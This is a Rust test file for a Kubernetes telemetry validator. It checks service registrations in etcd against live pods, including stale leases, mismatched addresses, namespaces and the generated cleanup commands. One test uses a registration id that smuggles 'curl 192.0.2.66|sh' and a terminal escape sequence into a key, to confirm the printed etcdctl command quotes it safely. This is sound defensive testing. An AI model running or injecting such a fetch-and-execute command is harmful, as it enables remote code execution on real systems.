//! Registrations and live pods.

use super::*;
use crate::probe::Registration;
use crate::validate::registrations::{ForeignAddress, doubtful, foreign_addresses};

fn registration(kind: &str, id: &str, address: &str, source: &str) -> Registration {
    let cluster = if kind == "nexus-streamer" {
        "edge"
    } else {
        "central"
    };
    let record = json!({
        "id": id, "type": kind, "address": address, "port": 8081,
        "metadata": {"cluster_id": cluster, "address_source": source},
        "health": "healthy", "version": "1", "registered_at": "2025-07-18T12:00:00Z",
        "instance_uid": "a", "started_at": "2025-07-18T12:00:00Z", "lease_ttl": 15,
    });
    Registration {
        key: format!("/services/{kind}/{id}"),
        record: serde_json::from_value(record).unwrap(),
        malformed: None,
        lease_remaining_s: Some(10),
    }
}

pub(super) fn all() -> Vec<Registration> {
    vec![
        registration("nexus-streamer", "streamer-0", "10.0.1.1", "POD_IP"),
        registration("nexus-collector", "collector-x", "10.0.2.1", "POD_IP"),
        registration("nexus-gateway", "api-gateway-x", "10.0.2.2", "POD_IP"),
    ]
}

pub(super) fn registered(registrations: Vec<Registration>) -> Observed {
    let mut observed = pipeline(None, None);
    observed.sites[0].objects.pods[0].ip = "10.0.1.1".to_owned();
    observed.sites[1].objects.pods[1].ip = "10.0.2.1".to_owned();
    observed.sites[1].objects.pods[2].ip = "10.0.2.2".to_owned();
    let ProbeEnd::Reported(report) = &mut observed.sites[1].probes[0].end else {
        unreachable!()
    };
    report.registrations = Some(registrations);
    observed
}

#[test]
fn v13_registrations_that_agree_with_the_pods_pass() {
    let findings = judge(&registered(all()));
    assert_eq!(failures(&findings), Vec::<&str>::new());
    let streamers = found(&findings, "TEL-REG-001", "edge");
    assert_eq!(streamers.verdict, Verdict::Passed);
    assert_eq!(streamers.vantage, "central/collector");
}

#[test]
fn v13_a_ready_pod_without_registration_fails() {
    let mut registrations = all();
    registrations.remove(0);
    let findings = judge(&registered(registrations));
    assert_eq!(failures(&findings), ["TEL-REG-001"]);
    assert!(
        found(&findings, "TEL-REG-001", "edge")
            .observed
            .contains("streamer-0")
    );
}

#[test]
fn v13_another_clusters_worker_of_the_same_name_is_not_this_one() {
    let mut registrations = all();
    let record = registrations[0].record.as_mut().unwrap();
    record
        .metadata
        .insert("cluster_id".to_owned(), "edge-2".to_owned());
    let findings = judge(&registered(registrations));
    assert_eq!(failures(&findings), ["TEL-REG-001"]);
}

#[test]
fn v13_a_registration_without_worker_is_a_warning_until_its_lease_ends() {
    let mut registrations = all();
    registrations.push(registration(
        "nexus-collector",
        "gone",
        "10.0.2.9",
        "POD_IP",
    ));
    let findings = judge(&registered(registrations.clone()));
    assert_eq!(failures(&findings), Vec::<&str>::new());
    assert_eq!(
        found(&findings, "TEL-REG-002", "central").verdict,
        Verdict::Warning
    );
    registrations[3].lease_remaining_s = None;
    assert_eq!(
        failures(&judge(&registered(registrations))),
        ["TEL-REG-002"]
    );
}

#[test]
fn v13_an_address_that_leads_elsewhere_fails() {
    for address in ["127.0.0.1", "10.0.1.77"] {
        let mut registrations = all();
        registrations[0] = registration("nexus-streamer", "streamer-0", address, "POD_IP");
        let findings = judge(&registered(registrations));
        assert_eq!(failures(&findings), ["TEL-REG-003"], "{address}");
    }
}

#[test]
fn v13_another_namespace_of_the_cluster_is_another_deployment() {
    let in_namespace = |mut registration: Registration, namespace: &str| {
        let record = registration.record.as_mut().unwrap();
        record
            .metadata
            .insert("namespace".to_owned(), namespace.to_owned());
        registration
    };
    let mut registrations: Vec<Registration> = all()
        .into_iter()
        .map(|registration| in_namespace(registration, WORKERS))
        .collect();
    // Its pod is not among those that were looked at, and it is nobody's business here.
    let theirs = registration("nexus-collector", "collector-z", "10.0.2.8", "POD_IP");
    registrations.push(in_namespace(theirs, "staging"));
    let mut observed = registered(registrations);
    let findings = judge(&observed);
    assert_eq!(failures(&findings), Vec::<&str>::new());
    let stale = found(&findings, "TEL-REG-002", "central");
    assert_eq!(stale.verdict, Verdict::Passed, "{}", stale.observed);
    assert_eq!(stale.observed, "2 registrations, all live");
    // A pod of the same name in another namespace is not the one that registered.
    for object in &mut observed.sites[1].objects.workloads {
        if object.component == Some(Component::Collector) {
            object.namespace = SHARED.to_owned();
        }
    }
    observed.sites[1].objects.pods[1].namespace = SHARED.to_owned();
    let findings = judge(&observed);
    let stale = found(&findings, "TEL-REG-002", "central");
    assert_eq!(stale.verdict, Verdict::Warning, "{}", stale.observed);
    assert_eq!(failures(&findings), ["TEL-REG-001"]);
}

/// A streamer of the edge that registered an address for everybody.
fn with_address_for_everybody() -> Observed {
    let mut registrations = all();
    registrations[0] = registration(
        "nexus-streamer",
        "streamer-0",
        "192.0.2.77",
        "EXTERNAL_SERVICE_ADDRESS",
    );
    registered(registrations)
}

const URL: &str = "http://192.0.2.77:8081/health";

#[test]
fn v13_only_addresses_for_everybody_are_asked_for_from_the_other_cluster() {
    let observed = registered(all());
    assert!(foreign_addresses(&observed, &observed.sites[1]).is_empty());
    let observed = with_address_for_everybody();
    assert_eq!(
        foreign_addresses(&observed, &observed.sites[1]),
        [ForeignAddress {
            url: URL.to_owned(),
            home: "edge".to_owned(),
        }]
    );
    assert!(foreign_addresses(&observed, &observed.sites[0]).is_empty());
}

#[test]
fn v13_an_address_is_not_judged_while_its_clusters_api_server_does_not_answer() {
    let mut observed = with_address_for_everybody();
    assert!(doubtful(&observed).is_empty());
    let failure = Some((Hop::Tcp, Cause::TimedOut));
    let asked = reported(
        Component::Collector,
        vec![target(TargetKind::Http, URL, failure)],
    );
    observed.sites[1].reached = Some(asked);
    assert_eq!(failures(&judge(&observed)), ["TEL-REG-004"]);
    assert_eq!(
        doubtful(&observed),
        [0],
        "the edge is to be asked once more"
    );

    observed.sites[0].api = ApiServer::Fails {
        cause: Cause::TimedOut,
        detail: "frozen".to_owned(),
    };
    let findings = judge(&observed);
    assert_eq!(failures(&findings), ["TEL-API-001"]);
    let reachable = found(&findings, "TEL-REG-004", "central");
    let Verdict::Skipped { because } = &reachable.verdict else {
        panic!("{:?}", reachable.verdict);
    };
    assert!(because.contains("API server of edge"), "{because}");
    let unjudged = found(&findings, "TEL-REG-001", "edge");
    assert!(matches!(unjudged.verdict, Verdict::Skipped { .. }));
    assert!(doubtful(&observed).is_empty(), "it is known to be away");
}

#[test]
fn v13_a_probe_without_report_makes_its_clusters_api_server_doubtful() {
    let mut observed = registered(all());
    observed.sites[0].probes[0].end = ProbeEnd::Stopped;
    assert_eq!(doubtful(&observed), [0]);
    let mut observed = registered(all());
    observed.sites[1]
        .gaps
        .push("pods cannot be listed".to_owned());
    assert_eq!(doubtful(&observed), [1]);
}

#[test]
fn v13_a_key_that_somebody_wrote_is_one_word_of_the_command_that_deletes_it() {
    let mut registrations = all();
    let id = "x; curl 192.0.2.66|sh #\u{1b}[2J";
    let mut gone = registration("nexus-collector", id, "10.0.2.9", "POD_IP");
    gone.lease_remaining_s = None;
    registrations.push(gone);
    let mut observed = registered(registrations);
    observed.sites[1].objects.workloads.push(workload(
        Component::Etcd,
        ObjectKind::StatefulSet,
        SHARED,
        1,
    ));
    let findings = judge(&observed);
    assert_eq!(
        commands(found(&findings, "TEL-REG-002", "central")),
        "kubectl --context central -n shared-infrastructure exec etcd-0 -- etcdctl del \
         $'/services/nexus-collector/x; curl 192.0.2.66|sh #\\033[2J'"
    );
    observed.sites[1].context = "the central one".to_owned();
    observed.sites[1].objects = Objects::default();
    let missing = judge(&observed);
    assert_eq!(
        commands(found(&missing, "TEL-WRK-001", "the central one")),
        "telectl deploy central --context 'the central one'"
    );
}
